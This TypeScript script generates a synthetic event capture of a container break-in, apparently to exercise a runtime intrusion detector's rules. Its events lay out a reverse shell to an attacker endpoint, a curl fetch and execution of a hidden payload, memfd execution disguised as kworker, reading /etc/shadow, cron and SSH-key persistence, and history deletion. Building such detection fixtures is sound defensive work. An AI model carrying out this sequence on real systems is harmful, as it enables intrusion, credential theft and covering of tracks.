/**
 * Writes samples/story.scap: an intrusion told in events, which `npm start` replays. A web shop in
 * a container has a hole; what follows triggers each of Saker's own rules once. Usage: node
 * tools/make-story.ts
 */

import { closeSync, openSync, writeSync } from 'node:fs';
import { resolve } from 'node:path';
import * as ppm from '@saker/core/events/constants.gen.ts';
import { PPME } from '@saker/core/events/event-codes.gen.ts';
import { type Actor, type Endpoint, StoryRecorder, snapshotEntry } from './story-recorder.ts';

/** 2026-03-14 02:17:03 UTC, in the night, as such things go. */
const START = 1_773_454_623_000_000_000n;
const CONTAINER = '5a4e17c0ffee'.padEnd(64, '0d2b9c71');
const SHOP: Endpoint = { address: '\xac\x11\x00\x03', port: 48_112 };
const ATTACKER: Endpoint = { address: '\xcb\x00\x71\x2a', port: 4444 };
const READ = ppm.PPM_O_RDONLY;
const APPEND = ppm.PPM_O_WRONLY | ppm.PPM_O_CREAT | ppm.PPM_O_APPEND;
const CREATE = ppm.PPM_O_WRONLY | ppm.PPM_O_CREAT | ppm.PPM_O_TRUNC;

/** Tells the story; `write` gets the capture's bytes. */
export function tellStory(write: (bytes: Uint8Array) => void): void {
  const story = new StoryRecorder(write, START);
  const server = scene(story);
  const shell = breakIn(story, server);
  stage(story, shell);
  settle(story, shell);
  coverTracks(story, shell);
  story.finish();
}

/** A host with the usual processes and one container. */
function scene(story: StoryRecorder): Actor {
  const { writer } = story;
  writer.machine({
    cpuCount: 2,
    memoryBytes: 4 * 2 ** 30,
    pidMax: 32_768,
    hostname: 'shop-1',
    bootTime: 0,
  });
  writer.networkInterface({
    name: 'eth0',
    address: SHOP.address,
    netmask: '\xff\xff\x00\x00',
    broadcast: '\xac\x11\xff\xff',
    linkSpeed: 1000,
  });
  writer.user({ uid: 0, gid: 0, name: 'root', home: '/root', shell: '/bin/bash' });
  writer.group({ gid: 0, name: 'root' });
  const init = actor(1, 0, { path: '/usr/lib/systemd/systemd', args: ['/sbin/init'] });
  const shim = actor(700, 1, {
    path: '/usr/bin/containerd-shim-runc-v2',
    args: ['/usr/bin/containerd-shim-runc-v2', '-id', CONTAINER],
  });
  const server: Actor = {
    ...actor(812, 700, { path: '/usr/local/bin/node', args: ['node', 'server.js'] }),
    vpid: 1,
    cgroups: [`cpu=/docker/${CONTAINER}`, `memory=/docker/${CONTAINER}`],
    env: ['PATH=/usr/local/bin:/usr/bin:/bin', 'HOME=/root', 'NODE_ENV=production'],
  };
  for (const each of [init, shim, server]) writer.thread(snapshotEntry(each));
  story.event(PPME.PPME_ASYNCEVENT_E, 1, {
    plugin_id: 0,
    name: 'container',
    data: `${containerJson()}\0`,
  });
  return server;
}

function actor(pid: number, ptid: number, program: Actor['program']): Actor {
  return { pid, ptid, vpid: pid, uid: 0, cgroups: ['cpu=/', 'memory=/'], env: [], program };
}

function containerJson(): string {
  return JSON.stringify({
    container: {
      type: 0,
      id: CONTAINER.slice(0, 12),
      full_id: CONTAINER,
      name: 'shop-web',
      image: 'registry.example/shop/web:2.8.1',
      imagerepo: 'registry.example/shop/web',
      imagetag: '2.8.1',
      ip: '172.17.0.3',
      privileged: false,
      labels: { 'io.kubernetes.pod.name': 'web-7d9c', 'io.kubernetes.pod.namespace': 'shop' },
    },
  });
}

/**
 * The hole: the shop's server runs a command that a request brought, and the command opens a way
 * back.
 */
function breakIn(story: StoryRecorder, server: Actor): Actor {
  const probe = story.fork(server);
  story.exec(probe, { path: '/bin/sh', args: ['sh', '-c', 'id; uname -a'] });
  story.exit(probe);
  story.wait(9);
  const shell = story.fork(server);
  story.exec(shell, { path: '/bin/bash', args: ['bash', '-i'] });
  story.connect(shell, 3, SHOP, ATTACKER);
  story.dup2(shell, 3, 0);
  return shell;
}

/** A tool is fetched, made executable and run: once from /tmp, once from memory. */
function stage(story: StoryRecorder, shell: Actor): void {
  story.wait(21);
  const fetch = story.fork(shell);
  story.exec(fetch, {
    path: '/usr/bin/curl',
    args: ['curl', '-so', '/tmp/.cache-d', 'http://203.0.113.42/d'],
  });
  story.open(fetch, 5, '/tmp/.cache-d', CREATE);
  story.close(fetch, 5);
  story.exit(fetch);
  const chmod = story.fork(shell);
  story.exec(chmod, { path: '/bin/chmod', args: ['chmod', '+x', '/tmp/.cache-d'] });
  story.event(PPME.PPME_SYSCALL_CHMOD_X, chmod.pid, {
    res: 0,
    filename: '/tmp/.cache-d',
    mode: 0o755,
  });
  story.exit(chmod);
  const tool = story.fork(shell);
  story.exec(tool, { path: '/tmp/.cache-d', args: ['/tmp/.cache-d', '--probe'] });
  story.exec(tool, { path: 'memfd:kworker', args: ['[kworker/u8:1]'], memfd: true });
  story.exit(tool);
}

/** Passwords are read; a task and a key make sure of the next visit. */
function settle(story: StoryRecorder, shell: Actor): void {
  story.wait(34);
  const cat = story.fork(shell);
  story.exec(cat, { path: '/bin/cat', args: ['cat', '/etc/shadow'] });
  story.open(cat, 5, '/etc/shadow', READ);
  story.exit(cat);
  story.open(shell, 5, '/etc/cron.d/logrotate-web', CREATE);
  story.close(shell, 5);
  story.open(shell, 5, '/root/.ssh/authorized_keys', APPEND);
  story.close(shell, 5);
}

function coverTracks(story: StoryRecorder, shell: Actor): void {
  story.wait(5);
  const rm = story.fork(shell);
  story.exec(rm, { path: '/bin/rm', args: ['rm', '-f', '/root/.bash_history'] });
  story.event(PPME.PPME_SYSCALL_UNLINKAT_2_X, rm.pid, {
    res: 0,
    dirfd: -100,
    name: '/root/.bash_history',
    flags: 0,
  });
  story.exit(rm);
  story.exit(shell);
}

if (import.meta.main) {
  const path = resolve(import.meta.dirname, '../samples/story.scap');
  const file = openSync(path, 'w');
  tellStory((bytes) => writeSync(file, bytes));
  closeSync(file);
  console.log(`wrote ${path}`);
}
